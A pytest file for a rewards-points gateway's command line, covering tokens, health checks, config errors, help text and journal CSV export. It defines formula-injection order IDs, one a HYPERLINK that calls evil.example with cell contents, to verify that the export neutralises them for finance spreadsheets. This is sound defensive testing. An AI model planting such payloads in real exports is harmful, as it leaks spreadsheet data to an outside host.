"""The command line as an operator runs it: real processes, exit codes, stdout and stderr."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from gateway.app import create_app
from gateway.config import load_settings

CLI = [sys.executable, "-m", "gateway"]


def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    import os

    environ = {k: v for k, v in os.environ.items() if not k.startswith("GATEWAY_")}
    return subprocess.run(
        [*CLI, *args], capture_output=True, text=True, env={**environ, **(env or {})}, timeout=60
    )


def test_token_is_alone_on_its_line_and_valid(config_path, api):
    out = run("token", "--config", str(config_path), "U1000")
    assert out.returncode == 0, out.stderr
    token = out.stdout
    assert token.count("\n") == 1 and token.strip() == token.rstrip("\n")
    r = api.post("/v1/points/balance", {"unique_id": "U1000", "auth_token": token.strip()})
    assert r.status_code == 200


def test_check_healthy(config_path):
    out = run("check", "--config", str(config_path))
    assert out.returncode == 0, out.stdout + out.stderr
    assert "journal  ok" in out.stdout and "profile  ok" in out.stdout


def test_check_unreachable_journal(config_path):
    env = {"GATEWAY_DATABASE_URL": "postgresql://postgres@127.0.0.1:1/none"}
    out = run("check", "--config", str(config_path), env=env)
    assert out.returncode == 1
    assert "journal" in out.stdout and "Traceback" not in out.stdout + out.stderr


@pytest.mark.parametrize("command", ["serve", "check", "token", "journal export"])
def test_broken_config_is_one_line_and_exit_2(tmp_path, command):
    bad = tmp_path / "bad.toml"
    bad.write_text(
        '[gateway]\nsecret_key = "k"\ntoken_ttl_seconds = "x"\n[profile]\nconnector="csv"\n[points]\nconnector="csv"\n'
    )
    args = command.split() + ["--config", str(bad)] + (["U1"] if command == "token" else [])
    out = run(*args)
    assert out.returncode == 2
    assert out.stderr.strip().count("\n") == 0, out.stderr
    assert "gateway.token_ttl_seconds" in out.stderr and "Traceback" not in out.stderr


def test_missing_csv_is_one_line_naming_its_key_and_exit_2(tmp_path, config_path):
    (tmp_path / "employees.csv").unlink()
    out = run("serve", "--config", str(config_path))
    assert out.returncode == 2
    assert out.stderr == (
        f"points-gateway: error: profile.options.path: {tmp_path / 'employees.csv'}: "
        "No such file or directory\n"
    )


def test_journal_export(config_path, api):
    assert api.redeem("U1000", "O-1", "12.5").status_code == 200
    assert api.refund("U1000", "O-1", 2).status_code == 200
    out = run("journal", "export", "--config", str(config_path))
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert [(r["kind"], r["order_id"], r["amount"], r["member"]) for r in rows] == [
        ("debit", "O-1", "12.5", "U1000"),
        ("refund", "O-1", "2", "U1000"),
    ]
    assert rows[0]["created_at"].endswith("+00:00") and len(rows[0]["fingerprint"]) == 64
    assert "auth_token" not in out.stdout


HOSTILE_ORDERS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1+1)", "-1+2", "@cmd"]


def test_journal_export_guards_formulas_and_raw_gives_the_bytes(config_path, api):
    """operating.md hands this export to finance: an order id that reads as a formula must not
    run in their spreadsheet (as the console's CSVs guard it); --raw is for machines."""
    for order_id in HOSTILE_ORDERS:
        assert api.redeem("U1000", order_id, 1).status_code == 200, order_id
    out = run("journal", "export", "--config", str(config_path))
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert [r["order_id"] for r in rows] == ["'" + o for o in HOSTILE_ORDERS]
    assert all(not value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
    raw = run("journal", "export", "--raw", "--config", str(config_path))
    assert [r["order_id"] for r in csv.DictReader(io.StringIO(raw.stdout))] == HOSTILE_ORDERS


def test_journal_export_date_window(config_path, api):
    assert api.redeem("U1000", "O-1", 1).status_code == 200
    today = run(
        "journal",
        "export",
        "--config",
        str(config_path),
        "--since",
        "2000-01-01",
        "--until",
        "2999-12-31",
    )
    assert len(today.stdout.strip().splitlines()) == 2
    future = run("journal", "export", "--config", str(config_path), "--since", "2999-01-01")
    assert future.stdout.strip().splitlines() == [future.stdout.strip()]  # header only
    bad = run("journal", "export", "--config", str(config_path), "--since", "yesterday")
    assert bad.returncode == 2 and "--since" in bad.stderr


def test_create_app_reads_gateway_config(config_path, monkeypatch):
    monkeypatch.setenv("GATEWAY_CONFIG", str(config_path))
    app = create_app()
    assert app.extensions["points_gateway"].settings.source == Path(config_path)
    app.extensions["points_gateway"].close()
    assert load_settings(config_path).identity == "employee_id"


def test_connectors_lists_each_with_roles_and_options():
    out = run("connectors")
    assert out.returncode == 0, out.stderr
    assert (
        "csv  (connectors.csv_source.CsvConnector; profile, points (grants); local)" in out.stdout
    )
    assert "darwinbox  (connectors.darwinbox.DarwinboxConnector; profile; remote)" in out.stdout
    assert "    password (secret, required)" in out.stdout
    assert "    http.budget_seconds (float, default 5.0)" in out.stdout
    assert "  keka             Keka HR (HRIS employees); finds by employee_id, email, mobile" in (
        out.stdout
    )
    assert "  microsoft_graph  Microsoft Entra ID" in out.stdout


def test_a_bad_nested_connector_option_is_named(tmp_path):
    from tests.test_darwinbox import write_darwinbox_config

    config = write_darwinbox_config(tmp_path)
    config.write_text(config.read_text().replace("breaker_failures = 2", "attempts = 0"))
    out = run("check", "--config", str(config))
    assert out.returncode == 2
    assert out.stderr.strip() == (
        "points-gateway: error: profile.options.http.attempts: "
        "Must be greater than or equal to 1 and less than or equal to 10."
    )


def help_pages(width: int) -> dict[str, str]:
    """The --help of the command line and of each of its groups, at a terminal `width` wide."""
    import click
    from click.testing import CliRunner

    from gateway.cli import main

    pages = {}
    groups: list[tuple[list[str], click.Group]] = [([], main)]
    while groups:
        names, group = groups.pop()
        args = [*names, "--help"]
        out = CliRunner().invoke(main, args, prog_name="points-gateway", terminal_width=width)
        assert out.exit_code == 0, out.output
        pages[" ".join(["points-gateway", *names])] = out.stdout
        groups += [
            ([*names, n], c) for n, c in group.commands.items() if isinstance(c, click.Group)
        ]
    return pages


@pytest.mark.parametrize("width", [80, 60])
def test_help_lists_each_command_with_a_whole_sentence(width):
    """click cuts a long first line of a docstring at ~45-60 columns with "...": each command
    says what it does in a sentence that fits."""
    pages = help_pages(width)
    assert {"points-gateway", "points-gateway journal", "points-gateway xoxoday tokens"} <= set(
        pages
    )
    for name, page in pages.items():
        lines = page.split("\n\n", 1)[1].splitlines()  # after the usage ("[ARGS]...")
        cut = [line for line in lines if line.rstrip().endswith("...")]
        assert cut == [], f"{name} --help: {cut}"
        if width == 80:  # each entry on one line, ending its sentence
            entries = page.split("Commands:\n", 1)[1].splitlines()
            assert all(line.rstrip().endswith(".") for line in entries), f"{name}: {entries}"


def test_check_person_exits_1_for_nobody_and_for_someone_inactive(config_path, monkeypatch):
    """An inactive person cannot use the storefront: `check --person` must not pass on them (a
    broken active rule would hide behind exit 0)."""
    import dataclasses

    from click.testing import CliRunner

    from connectors.csv_source import CsvConnector
    from gateway.cli import main

    def check(person: str):  # type: ignore[no-untyped-def]
        return CliRunner().invoke(main, ["check", "--config", str(config_path), "--person", person])

    found = check("U1000")
    assert found.exit_code == 0 and "lookup   found U1000 (active)" in found.stdout
    assert "balance  1000 available (1000 received, 0 redeemed)" in found.stdout
    nobody = check("NOBODY")
    assert nobody.exit_code == 1 and "lookup   nobody has employee_id 'NOBODY'" in nobody.stdout
    real_find = CsvConnector.find

    def as_inactive(self, by, value):  # type: ignore[no-untyped-def]
        profile = real_find(self, by, value)
        return profile and dataclasses.replace(profile, active=False)

    monkeypatch.setattr(CsvConnector, "find", as_inactive)
    gone = check("U1000")
    assert "lookup   found U1000 (inactive)" in gone.stdout
    assert gone.exit_code == 1, gone.stdout
    assert "journal  ok" in gone.stdout  # the rest was checked, and is healthy
    helped = " ".join(CliRunner().invoke(main, ["check", "--help"]).stdout.split())
    assert (
        "Exit codes: 0 all is healthy; 1 something cannot be reached, or the --person is not "
        "found or is inactive; 2 the configuration is broken or a key is refused."
    ) in helped


def test_check_person_reads_the_points_ledger_s_balance(tmp_path):
    """An integrator's finding: `check --person` never asked the ledger, so a member it has no
    account for (or a ledger that cannot answer) passed."""
    from click.testing import CliRunner

    from gateway.cli import main
    from tests.test_sql_ledger import company_database, ledger_config

    url = company_database(f"sqlite:///{tmp_path / 'company.db'}", points="250.75")
    config = ledger_config(tmp_path, url)

    def check(person: str):  # type: ignore[no-untyped-def]
        return CliRunner().invoke(main, ["check", "--config", str(config), "--person", person])

    pam = check("DB123")
    assert pam.exit_code == 0, pam.stdout
    assert "balance  250.75 available" in pam.stdout
    stranger = check("U1000")  # in the HR file, not in the ledger
    assert stranger.exit_code == 1 and "lookup   found U1000 (active)" in stranger.stdout
    assert "balance  user_not_found" in stranger.stdout
